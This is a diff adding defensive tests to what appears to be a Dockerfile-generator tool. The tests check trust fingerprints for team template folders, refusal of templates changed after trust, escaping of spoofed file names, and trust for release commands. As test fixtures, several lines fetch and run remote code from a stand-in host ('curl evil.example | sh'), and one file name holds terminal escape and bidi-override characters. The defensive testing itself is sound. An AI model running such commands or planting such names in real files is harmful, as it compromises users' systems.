@@ -107,6 +107,154 @@ describe('trust record', () => {
   });
 });
 
+describe('trust covers every template that can run (issue 20 item 1)', () => {
+  /** Trusted as it is, then one file (`late`) beyond what an old walk reached is changed. */
+  const trustedThenChanged = (files: Record<string, string>, late: string) => {
+    const { parent, project } = nest({ templates: './tpl' });
+    writeTree(join(parent, 'tpl'), { 'node/Dockerfile.ejs': `FROM x\n<%- include('${late}') %>\n`, ...files });
+    const store = env();
+    const team = loadTeamConfig(project)!;
+    let refused: unknown;
+    try {
+      recordTrust(team.path, fingerprintOf(team.path, team.templates, undefined), store);
+      writeFileSync(join(parent, 'tpl', late), 'RUN curl evil.example | sh\n');
+      return { state: trustState(team.path, fingerprintOf(team.path, team.templates, undefined), store).state };
+    } catch (error) {
+      refused = error;
+    }
+    return { refused };
+  };
+  const refusedWithOneLine = (result: { state?: string; refused?: unknown }) => {
+    assert.equal(result.state, undefined, 'never "trusted" by a hash that skipped the changed file');
+    assert.ok(result.refused instanceof InputError);
+    assert.equal(exitCodeOf(result.refused), 2);
+    assert.equal(result.refused.message.split('\n').length, 1);
+    assert.match(result.refused.message, /at most 500 files, 8 folder levels deep/);
+  };
+
+  it('a template deeper than the walk once went (12 levels) is not skipped: the folder is refused', () => {
+    const deep = `${Array.from({ length: 13 }, (_, i) => `d${i}`).join('/')}/late.ejs`;
+    refusedWithOneLine(trustedThenChanged({ [deep]: 'RUN true\n' }, deep));
+  });
+
+  it('a template past the file cap (2,000 once) is not skipped: the folder is refused', () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 2100 }, (_, i) => [`fill/f${String(i).padStart(4, '0')}.ejs`, '']),
+    );
+    refusedWithOneLine(trustedThenChanged(many, 'fill/f2099.ejs'));
+  });
+
+  it('what renders is what was trusted: a template changed or added after the trust check is refused, not rendered', async () => {
+    const { renderAll } = await import('../../src/render.js');
+    const { plan } = await import('../../src/plan.js');
+    const planned = plan(
+      {
+        appName: 'demo',
+        language: 'python',
+        framework: 'flask',
+        entrypoint: 'app:app',
+        runtimeVersion: '3.13',
+        port: 5000,
+        base: 'slim',
+        sampleApp: true,
+        buildkit: true,
+      },
+      { folderName: 'demo', empty: true, detected: [] },
+    );
+    for (const late of ['python/Dockerfile.ejs', 'python/dependencies.ejs']) {
+      const { parent, project } = nest({ templates: './tpl' });
+      writeTree(join(parent, 'tpl'), {
+        'python/Dockerfile.ejs': 'FROM x\n# team\n<%- include("../python/dependencies.ejs") %>\n',
+      });
+      const team = loadTeamConfig(project)!;
+      const store = env();
+      const trusted = await decideTrust(team, {
+        projectDir: project,
+        yes: true,
+        trustConfig: true,
+        templatesFlag: false,
+        uses: ALL_TEAM_SETTINGS,
+        prompter: undefined,
+        log: () => undefined,
+        env: store,
+      });
+      const overrides = { dir: trusted!.templates!, hashes: trusted!.templateHashes };
+      assert.match((await renderAll(planned, overrides))[0].contents, /^# team$/m);
+      // Between the trust check and the render: the trusted file is edited, or a new one shadows a built-in.
+      writeFileSync(join(parent, 'tpl', late), 'RUN curl evil.example | sh\n');
+      await assert.rejects(
+        renderAll(planned, overrides),
+        (error: unknown) =>
+          error instanceof InputError &&
+          exitCodeOf(error) === 2 &&
+          new RegExp(`changed after you trusted it, during this run \\(${late.replace('.', '\\.')}\\)`).test(
+            error.message,
+          ),
+        late,
+      );
+    }
+  });
+
+  it('within the bounds every file is hashed, so a change to any of them asks again', () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 400 }, (_, i) => [`fill/f${String(i).padStart(3, '0')}.ejs`, '']),
+    );
+    assert.deepEqual(trustedThenChanged(many, 'fill/f399.ejs'), { state: 'changed' });
+    const deep = `${Array.from({ length: 7 }, (_, i) => `d${i}`).join('/')}/late.ejs`;
+    assert.deepEqual(trustedThenChanged({ [deep]: '' }, deep), { state: 'changed' });
+  });
+});
+
+describe('the trust listing cannot be spoofed (issue 20 item 9)', () => {
+  const ESC = '\u001b';
+  const spoof = `python/${ESC}[1A${ESC}[2K\r  templates: none\u202e.ejs`;
+
+  it('every name shown is made visible: no escape sequence, carriage return or bidi control reaches the terminal', () => {
+    const { parent, project } = nest({ templates: './tpl' });
+    writeTree(join(parent, 'tpl'), { [spoof]: 'FROM x\n' });
+    const [line] = teamEffects(loadTeamConfig(project)!, { uses: ALL_TEAM_SETTINGS, templatesFlag: false });
+    assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+    assert.ok(line.includes('"python/\\u001b[1A\\u001b[2K\\u000d  templates: none\\u202e.ejs"'), line);
+    assert.match(line, /replaces 1 built-in template file\(s\)/);
+  });
+
+  it('a changed file is always named, however many files the folder holds and however it is named', async () => {
+    const { parent, project } = nest({ templates: './tpl' });
+    const files = Object.fromEntries(
+      Array.from({ length: 40 }, (_, i) => [`node/p${String(i).padStart(2, '0')}.ejs`, '']),
+    );
+    writeTree(join(parent, 'tpl'), { ...files, [spoof]: 'FROM x\n' });
+    const store = env();
+    const team = loadTeamConfig(project)!;
+    recordTrust(team.path, fingerprintOf(team.path, team.templates, undefined), store);
+    writeFileSync(join(parent, 'tpl', spoof), 'FROM evil\n');
+    writeFileSync(join(parent, 'tpl', 'node/p39.ejs'), 'RUN evil\n');
+    const projectDir = project;
+    const base = {
+      projectDir,
+      trustConfig: false,
+      templatesFlag: false,
+      uses: ALL_TEAM_SETTINGS,
+      log: () => undefined,
+      env: store,
+    };
+    await assert.rejects(decideTrust(team, { ...base, yes: true, prompter: undefined }), (error: unknown) => {
+      assert.ok(error instanceof InputError);
+      assert.equal(error.message.split('\n').length, 1);
+      assert.doesNotMatch(error.message, /[\u0000-\u001f\u202e]/);
+      assert.match(
+        error.message,
+        /changed since you trusted it \(templates\/node\/p39\.ejs, "templates\/python\/\\u001b/,
+      );
+      return true;
+    });
+    const prompter = answering('abort');
+    await assert.rejects(decideTrust(team, { ...base, yes: false, prompter }), CancelledError);
+    assert.match(prompter.asked[0], /templates\/node\/p39\.ejs/);
+    assert.doesNotMatch(prompter.asked[0], /[\u0000-\u001f\u202e]/);
+  });
+});
+
 describe('trust decision', () => {
   const options = (team: TeamConfig, overrides: Partial<Parameters<typeof decideTrust>[1]> = {}) => ({
     projectDir: join(team.path, '..', 'services', 'svc'),
@@ -167,6 +315,29 @@ describe('trust decision', () => {
     assert.equal(await decideTrust(answersOnly, options(answersOnly)), answersOnly);
     const templatesOnly = loadTeamConfig(nest({ templates: '.' }).project)!;
     assert.equal(await decideTrust(templatesOnly, options(templatesOnly, { templatesFlag: true })), templatesOnly);
+  });
+  it('a release command in defaults or locked needs trust like templates, and is shown whole (issue 20 item 6)', async () => {
+    for (const where of ['defaults', 'locked'] as const) {
+      const { project } = nest({ [where]: { releaseCommand: 'curl -fsS https://evil.example/x | sh' } });
+      const team = loadTeamConfig(project)!;
+      assert.deepEqual(teamEffects(team, { uses: ALL_TEAM_SETTINGS, templatesFlag: false }), [
+        '  release command: `curl -fsS https://evil.example/x | sh` runs (a shell command) before the server on every start',
+      ]);
+      await assert.rejects(
+        decideTrust(team, options(team)),
+        (error: unknown) =>
+          error instanceof InputError &&
+          exitCodeOf(error) === 2 &&
+          /not trusted yet: it sets a release command \(a shell command\); review it/.test(error.message),
+        where,
+      );
+      const store = env();
+      assert.equal(await decideTrust(team, options(team, { trustConfig: true, env: store })), team);
+      assert.equal(await decideTrust(team, options(team, { env: store })), team, 'trusted from now on');
+    }
+    // "none" runs nothing: an answers-only config still needs no trust.
+    const none = loadTeamConfig(nest({ locked: { releaseCommand: 'none' } }).project)!;
+    assert.equal(await decideTrust(none, options(none)), none);
   });
   it('what a config changes is shown in words: registry, labels, uid, CA certificate, the templates it replaces', () => {
     const { parent, project } = nest({
